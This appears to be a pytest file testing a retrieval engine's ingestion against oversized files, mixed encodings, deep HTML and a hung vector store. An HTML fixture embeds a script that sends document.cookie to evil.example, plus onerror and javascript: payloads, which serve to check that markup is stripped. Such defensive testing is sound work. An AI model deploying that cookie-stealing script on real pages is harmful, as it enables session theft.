"""Bad input and dead dependencies: a clear one-line reason, nothing indexed lost, no hang."""

from __future__ import annotations

import socket
import time
import tracemalloc
from pathlib import Path

import pytest

from rag.api import Engine
from rag.errors import StoreUnavailable
from rag.settings import Settings
from vectorstore.embedders.factory import E5Small

HOSTILE_HTML = """<html><head><title>Vertice a Roma</title>
<style>body { background: url(javascript:alert(1)) } .x { color: red }</style>
<script>document.location='http://evil.example/?c='+document.cookie; window.INJECTED=1;</script></head>
<body><nav>Home | Esteri | Politica</nav><article><h1>Vertice a Roma</h1>
<p>Il vertice di Roma del 3 febbraio 2026 ha riunito i ministri degli Esteri di dodici Paesi europei.</p>
<p>I ministri hanno approvato un fondo di due miliardi per la ricostruzione delle scuole ucraine.</p>
<img src=x onerror="alert(2)"><iframe src="http://evil.example"></iframe></article>
<script>alert(3)</script></body></html>"""


@pytest.mark.slow
def test_fifty_megabyte_file_is_refused_before_it_is_read(engine: Engine, articles: Path):
    engine.ingest([articles])
    chunks = engine.stats().chunks
    big = articles / "huge.txt"
    with big.open("wb") as f:
        line = ("Il consiglio ha discusso a lungo del piano di pace. " * 20 + "\n").encode()
        for _ in range(50_000_000 // len(line) + 1):
            f.write(line)
    assert big.stat().st_size >= 50_000_000
    tracemalloc.start()
    report = engine.ingest([articles])
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    (skip,) = report.skipped
    assert "too large (50.0 MB > 20 MB)" in skip.reason and "RAG_MAX_FILE_MB" in skip.reason
    assert peak < 10_000_000  # the file was never loaded
    assert engine.stats().chunks == chunks and len(report.unchanged) == 5


def test_html_scripts_styles_and_markup_never_reach_the_index(engine: Engine, tmp_path: Path):
    page = tmp_path / "roma.html"
    page.write_text(HOSTILE_HTML, encoding="utf-8")
    report = engine.ingest([page])
    assert report.added == ("roma",)
    text = engine.document("roma") or ""
    assert "due miliardi" in text and "dodici Paesi" in text
    for bad in ("script", "alert", "document.cookie", "javascript", "onerror", "<", "color: red", "evil.example"):
        assert bad not in text, bad
    answer = engine.ask("Quanto vale il fondo per le scuole ucraine?")
    assert "due miliardi" in answer.text


def test_utf16_and_cp1252_articles_are_read(engine: Engine, tmp_path: Path):
    sentence = "Il ministro è arrivato a Bruxelles perché la riunione è stata anticipata di un giorno."
    (tmp_path / "utf16.txt").write_bytes(sentence.encode("utf-16"))
    (tmp_path / "cp1252.txt").write_bytes(("“" + sentence + "”").encode("cp1252"))
    report = engine.ingest([tmp_path])
    assert sorted(report.added) == ["cp1252", "utf16"]
    assert "perché la riunione" in (engine.document("utf16") or "")
    assert "“Il ministro" in (engine.document("cp1252") or "")


def test_hung_store_is_reported_within_the_timeout(embedder: E5Small, tmp_path: Path):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)  # accepts, never answers: a hung server, not a dead one
    try:
        url = f"http://127.0.0.1:{listener.getsockname()[1]}"
        engine = Engine(Settings(persist_dir=tmp_path, chroma_url=url, chroma_timeout=2), embedder=embedder)
        began = time.perf_counter()
        with pytest.raises(StoreUnavailable, match="not answering") as err:
            engine.stats()
        elapsed = time.perf_counter() - began
    finally:
        listener.close()
    assert 1.5 <= elapsed < 4, elapsed
    assert "RAG_CHROMA_URL" in str(err.value) and "\n" not in str(err.value)


@pytest.mark.slow
def test_run_on_sentence_punctuation_and_deep_html_lose_nothing(engine: Engine, articles: Path, tmp_path: Path):
    """A 2.1 MB sentence with no full stop, a file of punctuation, 200,000 nested <div>s."""
    engine.ingest([articles])
    before = engine.stats()
    bad = tmp_path / "bad"
    bad.mkdir()
    words = "il governo ha detto che la pace è vicina, ma la guerra continua; nessuno sa quando – dice il ministro"
    run_on = (words + " ") * (2_100_000 // (len(words) + 1))
    (bad / "runon.txt").write_text(run_on, encoding="utf-8")
    (bad / "punct.txt").write_text("…. !!! ???\n\n--- *** 123 ...", encoding="utf-8")
    depth = 200_000
    paragraph = "<p>Il vertice di Roma è fissato a marzo, dice il ministro degli Esteri.</p>"
    (bad / "deep.html").write_text(f"<html><body>{'<div>' * depth}{paragraph}{'</div>' * depth}</body></html>")

    began = time.perf_counter()
    # Keyword-only: the run-on file alone is ~3,500 passages, minutes of embedding.
    report = engine.ingest([bad], embed=False)
    elapsed = time.perf_counter() - began
    reasons = {Path(s.path).name: s.reason for s in report.skipped}
    assert reasons == {"punct.txt": "no letters, only punctuation, digits or symbols; not an article"}
    assert sorted(report.added) == ["deep", "runon"]
    assert "Il vertice di Roma è fissato a marzo" in (engine.document("deep") or "")
    chunks = engine.store.chunks_of("runon")
    limit = engine.settings.chunk_chars
    assert len(chunks) > 3000 and max(len(c.text) for c in chunks) <= limit
    text = engine.document("runon") or ""
    assert all(text[c.meta["start"] : c.meta["end"]] == c.text for c in chunks)  # spans stay exact
    # A bound against a blow-up (quadratic splitting of 2.1 MB would take hours), not a speed
    # figure: 60 s failed on a loaded 2-core machine at 89 s (docs/BENCHMARKS.md has the speeds).
    assert elapsed < 300, elapsed
    after = engine.stats()
    assert after.documents == before.documents + 2  # nothing indexed before was lost
    assert engine.ask("What did Meloni commit?").citations[0].doc_id == "002_e0f27ceca1252032"
